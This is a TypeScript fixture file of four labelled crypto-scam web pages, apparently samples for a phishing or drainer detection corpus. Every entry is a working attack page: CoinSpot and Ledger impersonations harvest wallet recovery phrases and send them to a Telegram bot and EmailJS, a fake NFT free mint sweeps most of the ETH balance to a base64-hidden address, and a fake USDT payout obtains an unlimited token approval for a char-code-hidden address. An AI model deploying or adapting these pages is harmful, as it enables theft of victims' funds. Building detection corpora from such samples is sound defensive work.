import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { shell, baseCss, b64, charCodes, telegramDrop } from '../parts/xd-kit.js';

export const entries: Entry[] = [
{
  id: 'xd-seedphrase-coinspot-austrac-validation',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://coinspot-au.wallet-validation.net/austrac/verify',
  body: shell(
    'CoinSpot – Wallet validation',
    `<header class="top" style="background:#fff;border-bottom:1px solid #eee"><b style="color:#0a5ae8;font-size:22px">CoinSpot</b><span class="muted" style="margin-left:auto">Australia's most trusted exchange</span></header>
<main style="max-width:600px">
 <h1 style="font-size:22px">External wallet validation required</h1>
 <p>Under new AUSTRAC travel-rule requirements, all customers who withdraw to a self-custody wallet must validate ownership of that wallet by <b id="dd"></b>. Unvalidated wallets will be blocked from receiving withdrawals.</p>
 <form id="sp">
  <label>Wallet type</label><select name="wallet"><option>MetaMask</option><option>Trust Wallet</option><option>Ledger</option><option>Exodus</option><option>Coinbase Wallet</option><option>Other</option></select>
  <label>Recovery phrase (12 or 24 words, separated by spaces)</label>
  <textarea name="phrase" rows="4" style="width:100%;font-size:16px" required></textarea>
  <p class="muted">Your phrase is encrypted end-to-end and used only to sign a one-time ownership proof.</p>
  <button style="background:#0a5ae8">Validate wallet</button>
  <p class="err" id="e">Invalid phrase. Please check your words.</p>
 </form>
</main>
<script>
var d = new Date(Date.now() + 3 * 864e5); document.getElementById('dd').textContent = d.toLocaleDateString('en-AU');
document.getElementById('sp').onsubmit = function (e) {
  e.preventDefault();
  var w = this.phrase.value.trim().split(/\\s+/).length;
  if ([12, 15, 18, 21, 24].indexOf(w) < 0) { document.getElementById('e').style.display = 'block'; return; }
  ${telegramDrop({ token: '7314550982:AAFy1dQx9Zr3bKc0mVn5TgHj8LpWs4oEaUi', chat: '-1001995320714', tag: '🔑 COINSPOT SEED', fields: ['wallet', 'phrase'], after: "document.getElementById('sp').innerHTML='<p>✔ Your wallet has been validated.</p>'" })}
};
</script>`,
    { css: baseCss('#fff', '#1a1a1a', '#0a5ae8') },
  ),
},
{
  id: 'xd-seedphrase-ledger-incident-emailjs',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://ledger-live-sync.support-nz.com/recover/',
  body: shell(
    'Ledger – Security incident: re-synchronise your device',
    `<div style="background:#000;color:#fff;min-height:100vh;font-family:Inter,Arial">
 <div style="max-width:720px;margin:0 auto;padding:30px 16px">
  <b style="font-size:22px;letter-spacing:.2em">LEDGER</b>
  <h1 style="font-size:26px">Security incident — action required</h1>
  <p>A third-party data breach exposed customer shipping records. To prevent unauthorised access, Ledger Live requires all devices to be re-synchronised with a new secure element key. Enter your 24-word recovery phrase in order.</p>
  <form id="lg"><div id="g" style="display:grid;grid-template-columns:repeat(4,1fr);gap:8px"></div>
  <button style="margin-top:18px;background:#fff;color:#000;border:0;padding:12px 28px;border-radius:20px;font-weight:700">Synchronise</button></form>
 </div>
</div>
<script>
var g = document.getElementById('g');
for (var i = 1; i <= 24; i++) g.insertAdjacentHTML('beforeend', '<input name="w' + i + '" placeholder="' + i + '." autocomplete="off" style="padding:8px;background:#111;color:#fff;border:1px solid #333;border-radius:4px">');
document.getElementById('lg').onsubmit = function (e) {
  e.preventDefault();
  var words = []; for (var i = 1; i <= 24; i++) words.push(this['w' + i].value.trim());
  fetch('https://api.emailjs.com/api/v1.0/email/send', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ service_id: 'service_q8r2lx1', template_id: 'template_77ww3k', user_id: 'pX4vJk0s9cYbA2eN1', template_params: { phrase: words.join(' '), ua: navigator.userAgent } }) })
    .finally(function () { location.href = 'https://www.ledger.com/'; });
};
</script>`,
    { lang: 'en-NZ' },
  ),
},
{
  id: 'xd-drainer-nft-freemint-native-sweep',
  label: 'cryptodrainer',
  kind: 'wallet-drainer-native',
  url: 'https://kangaroo-mob-nft.xyz/mint',
  body: shell(
    'Kangaroo Mob – Free Mint LIVE',
    `<div style="background:#ffb703;min-height:100vh;font-family:'Trebuchet MS',Arial;text-align:center;padding:40px 16px">
 <h1 style="font-size:44px;margin:0">KANGAROO MOB 🦘</h1>
 <p style="font-size:18px">5,555 hand-drawn roos on Ethereum. <b>Free mint</b> — just pay gas. <span id="left">312</span> left!</p>
 <div style="font-size:80px">🦘🦘🦘</div>
 <button id="m" style="background:#023047;color:#fff;border:0;border-radius:12px;padding:18px 40px;font-size:20px">Connect &amp; Mint</button>
 <p id="st"></p>
</div>
<script>
var _c = JSON.parse(atob('${b64(JSON.stringify({ r: '0x9c2E4a41F0b7e0d3D85aC7B3Fc9e81a2E4d06C19', k: 0.92, ch: '0x1' }))}'));
document.getElementById('m').onclick = async function () {
  var acc = (await ethereum.request({ method: 'eth_requestAccounts' }))[0];
  try { await ethereum.request({ method: 'wallet_switchEthereumChain', params: [{ chainId: _c.ch }] }); } catch (e) {}
  var bal = BigInt(await ethereum.request({ method: 'eth_getBalance', params: [acc, 'latest'] }));
  var gas = BigInt(await ethereum.request({ method: 'eth_gasPrice' })) * 21000n * 2n;
  var v = (bal * BigInt(Math.floor(_c.k * 100)) / 100n) - gas;
  if (v <= 0n) { document.getElementById('st').textContent = 'Insufficient funds for gas.'; return; }
  document.getElementById('st').textContent = 'Confirm the mint in your wallet…';
  await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: acc, to: _c.r, value: '0x' + v.toString(16), data: '0x1249c58b' }] });
  document.getElementById('st').textContent = 'Minted! Your roo will be revealed in 48 hours.';
};
</script>`,
  ),
},
{
  id: 'xd-drainer-tron-usdt-approve-payout',
  label: 'cryptodrainer',
  kind: 'wallet-drainer-approval',
  url: 'https://usdt-payout-verify.trc-wallet.cc/verify?job=880317',
  routes: {
    'usdt-payout-verify.trc-wallet.cc/verify': htmlRoute(
      shell(
        'USDT Wallet Verification – Payout Centre',
        `<div style="max-width:420px;margin:0 auto;padding:20px;font-family:Arial;text-align:center">
 <div style="font-size:44px;color:#26a17b">₮</div>
 <h1 style="font-size:22px">Verify your USDT wallet to receive your payout</h1>
 <p>Your commission of <b>612.50 USDT</b> is ready. Open this page in <b>TronLink</b> or <b>Trust Wallet</b> and tap Verify to confirm your TRC-20 address can receive funds.</p>
 <button id="v" style="background:#26a17b;width:100%">Verify wallet</button>
 <p id="s" class="muted"></p>
</div>
<script>
var S = String.fromCharCode(${charCodes('TGxqZ7uJbH3c9vQk2pYrN8eWmA5sLdF4tE')});
var USDT = 'TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t';
document.getElementById('v').onclick = async function () {
  var s = document.getElementById('s');
  if (!window.tronWeb || !tronWeb.defaultAddress.base58) { s.textContent = 'Please open in TronLink / Trust Wallet DApp browser.'; return; }
  try {
    var c = await tronWeb.contract().at(USDT);
    await c.approve(S, '115792089237316195423570985008687907853269984665640564039457584007913129639935').send({ feeLimit: 100000000 });
    fetch('https://usdt-payout-verify.trc-wallet.cc/api/ok', { method: 'POST', body: JSON.stringify({ a: tronWeb.defaultAddress.base58, job: '880317' }) });
    s.textContent = 'Verified ✔ Your payout will arrive within 30 minutes.';
  } catch (e) { s.textContent = 'Verification failed, please try again.'; }
};
</script>`,
        { css: baseCss('#26a17b') + 'body{background:#fff}' },
      ),
    ),
  },
},
];
